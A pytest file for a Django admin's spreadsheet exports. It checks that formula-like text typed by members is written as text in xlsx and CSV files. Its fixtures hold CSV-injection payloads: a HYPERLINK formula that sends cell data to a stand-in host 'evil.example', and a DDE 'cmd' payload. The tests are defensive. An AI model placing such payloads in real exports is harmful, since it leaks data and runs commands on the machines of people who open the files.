"""No formula in any export (issue 12, item 5): text a member typed that starts like a
formula (=, +, -, @, a tab or a carriage return) reaches Excel as text, in every .xlsx
and CSV export, read back with openpyxl."""

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import reverse

from briefings.models import Activity
from liaison import spreadsheets
from members.formats import AutoEncodingCSV
from proposals.services import opinion_report_create
from tests.factories import ContributionFactory, MemberFactory, activity_scheduled, proposal_draft
from visits import services as visit_services
from visits.models import Concern, Visit

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_no_formula(content: bytes, *, expected=(HYPERLINK,)):
    """No cell is a formula, and each ``expected`` value is there, as the same text,
    marked as text for Excel (so a test whose data never reached the file fails)."""
    sheet = cells(content)
    assert [c.coordinate for c in sheet if c.data_type == "f"] == []
    for value in expected:
        # A carriage return is written as &#13;; older lxml reads it back as a line feed.
        found = [c for c in sheet if c.value in (value, value.replace("\r", "\n"))]
        assert found, f"{value!r} is not in the export"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)


# --- every export of the admin ----------------------------------------------------------


@pytest.fixture
def hostile(staff, member, office):
    """One record for each export, with formula-looking text where members type."""
    MemberFactory(office=office, mobile="13700000009", home_address=HYPERLINK, employer="@SUM(1,1)")
    ContributionFactory(member=member, title=HYPERLINK)
    proposal_draft(member=member, title=HYPERLINK)
    opinion_report_create(
        actor=staff, office=office, member=member, title=HYPERLINK, situation="s", suggestion="s"
    )
    visit_services.visit_record(
        actor=staff,
        office=office,
        kind=Visit.Kind.HOSPITAL,
        visited_on=datetime.date(2026, 3, 2),
        members=[member],
        place=HYPERLINK,
        summary="-2+3",
    )
    visit_services.concern_create(
        actor=staff,
        office=office,
        member=member,
        title=HYPERLINK,
        content="+1+1",
        source=Concern.Source.STAFF,
    )


@pytest.mark.parametrize(
    ("export", "expected"),
    [
        ("members_member", [HYPERLINK, "@SUM(1,1)"]),
        ("members_contribution", [HYPERLINK]),
        ("proposals_proposal", [HYPERLINK]),
        ("proposals_opinionreport", [HYPERLINK]),
        ("visits_visit", [HYPERLINK, "-2+3"]),
        ("visits_concern", [HYPERLINK, "+1+1"]),
    ],
)
def test_member_typed_formulas_are_exported_as_text(staff_client, hostile, export, expected):
    response = staff_client.get(reverse(f"admin:{export}_export"))

    assert response.status_code == 200, response.content[:300]
    assert_no_formula(response.content, expected=expected)


def test_activity_export_as_xlsx_or_csv_writes_titles_as_text(staff_client, staff, office):
    activity_scheduled(office=office, actor=staff, title=HYPERLINK)
    url = reverse("admin:briefings_activity_export")
    form = staff_client.get(url).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices if value != ""}
    assert set(formats) == {"xlsx", "csv"}  # no other format can carry a formula
    post = {"resource": "0", "activityresource_title": "on", "activityresource_kind": "on"}

    xlsx = staff_client.post(url, {**post, "format": formats["xlsx"]})
    data = staff_client.post(url, {**post, "format": formats["csv"]})

    assert xlsx.status_code == 200, xlsx.content[:300]
    assert_no_formula(xlsx.content)
    rows = list(csv.reader(io.StringIO(data.content.decode("utf-8-sig"))))
    assert ["'" + HYPERLINK, "政情通报会"] in rows
    assert Activity.objects.count() == 1


def test_every_admin_export_offers_only_the_safe_formats():
    """Any export added later inherits the escaping or this test names it."""
    safe = (spreadsheets.XLSX, spreadsheets.CSV)
    unsafe = {
        f"{model._meta.label}: {fmt.__name__}"
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_export_formats")
        for fmt in model_admin.get_export_formats()
        if not issubclass(fmt, safe)
    }
    assert unsafe == set()


# --- the formats themselves -------------------------------------------------------------


def dataset(*values):
    return tablib.Dataset(
        *[[v, datetime.date(2026, 3, 2), 42] for v in values], headers=["a", "b", "c"]
    )


def test_xlsx_keeps_every_formula_prefix_as_text_and_dates_and_numbers_native():
    content = spreadsheets.XLSX().export_data(dataset(*FORMULAS, "普通文字"))

    assert_no_formula(content, expected=FORMULAS)
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    assert rows[-1] == ("普通文字", datetime.datetime(2026, 3, 2), 42)


def test_xlsx_export_survives_control_characters_a_member_pasted():
    content = spreadsheets.XLSX().export_data(dataset("地址\x07有响铃"))

    assert cells(content)[3].value == "地址\N{REPLACEMENT CHARACTER}有响铃"


@pytest.mark.parametrize("fmt", [spreadsheets.CSV, AutoEncodingCSV])
def test_csv_puts_an_apostrophe_before_formula_prefixes(fmt):
    data = fmt().export_data(dataset(*FORMULAS, "普通文字", "1-2"))
    text = data.decode("utf-8") if isinstance(data, bytes) else data

    assert text.startswith("\ufeff")  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS] + ["普通文字", "1-2"]
